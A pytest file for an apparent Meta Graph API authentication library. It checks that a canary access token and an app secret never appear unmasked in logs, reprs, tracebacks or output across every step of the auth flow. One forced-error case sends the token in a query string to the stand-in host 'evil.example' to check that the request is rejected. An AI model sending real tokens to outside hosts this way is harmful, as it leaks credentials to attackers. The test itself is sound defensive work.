"""A canary token and app secret run through every step never show up in full anywhere."""

from __future__ import annotations

import logging
import traceback

import pytest

import meta_auth_nb as mab
from meta_auth_nb import errors as E
from meta_auth_nb._base.redact import get_logger
from meta_auth_nb.auth.health import validate


def texts_of(exc: BaseException) -> str:
    return "".join(traceback.format_exception(type(exc), exc, exc.__traceback__)) + repr(exc) + str(exc)


def test_canary_never_leaks(sandbox, opts, caplog, capsys):
    secret = sandbox.app_secret
    app = {"app_id": sandbox.app_id, "app_secret": secret}
    seen: list[str] = []
    with caplog.at_level(logging.DEBUG):  # every logger, httpx and httpcore included
        req = mab.login_url(sandbox.app_id, "http://localhost:8765/cb", "ads_read", dialog_url=sandbox.dialog_url)
        code = mab.parse_redirect(sandbox.approve(req.url), req.state)
        short = mab.exchange_code(code, redirect_uri="http://localhost:8765/cb", **app, **opts)
        canary = short.get_secret_value()
        long = mab.extend_token(short, **app, **opts)
        info = mab.inspect_token(long, **app, **opts)
        perms = mab.permissions(long, app_secret=secret, **opts)
        report = validate(long, required_scopes="ads_read", **app, **opts)
        with mab.GraphSession(long, app_secret=secret, **opts) as meta:
            rows = list(meta.pages(f"{sandbox.ad_account_ids()[0]}/insights", limit=200))
            seen += [repr(meta), str(meta.usage)]
        seen += [
            repr(short),
            str(long),
            f"{long}",
            repr(info),
            repr(perms),
            repr(report),
            report.summary(),
            str(report.to_dict()),
        ]

        # forced errors at every layer, with the canary as the token
        failures = []
        with pytest.raises(E.CodeExchangeFailed) as used:
            mab.exchange_code(code, redirect_uri="http://localhost:8765/cb", **app, **opts)
        failures.append(used.value)
        with pytest.raises(E.CodeExchangeFailed) as wrong_secret:
            mab.extend_token(long, app_id=sandbox.app_id, app_secret="0" * 32, **opts)
        failures.append(wrong_secret.value)
        with pytest.raises(E.InvalidAppSecretProof) as proof:
            mab.GraphSession(long, app_secret="1" * 32, **opts).get("me")
        failures.append(proof.value)
        with pytest.raises(E.GraphError) as hostile:
            mab.GraphSession(long, **opts).get(f"https://evil.example/me?access_token={canary}")
        failures.append(hostile.value)
        sandbox.advance(3 * 3600)
        with pytest.raises(E.TokenExpired) as expired:
            mab.GraphSession(short, **opts).get("me")
        failures.append(expired.value)
        with pytest.raises(ValueError) as bad:
            mab.AccessToken(canary + " x")
        failures.append(bad.value)
        seen += [texts_of(f) for f in failures]
        get_logger("meta_auth_nb.test").debug("token %s", canary)

    out = capsys.readouterr()
    everything = "\n".join(seen + [caplog.text, out.out, out.err] + [r.getMessage() for r in caplog.records])
    assert rows and info.is_valid
    for secret_value in (canary, long.get_secret_value(), secret):
        assert secret_value not in everything
    assert long.masked in everything  # the masked form is what people see
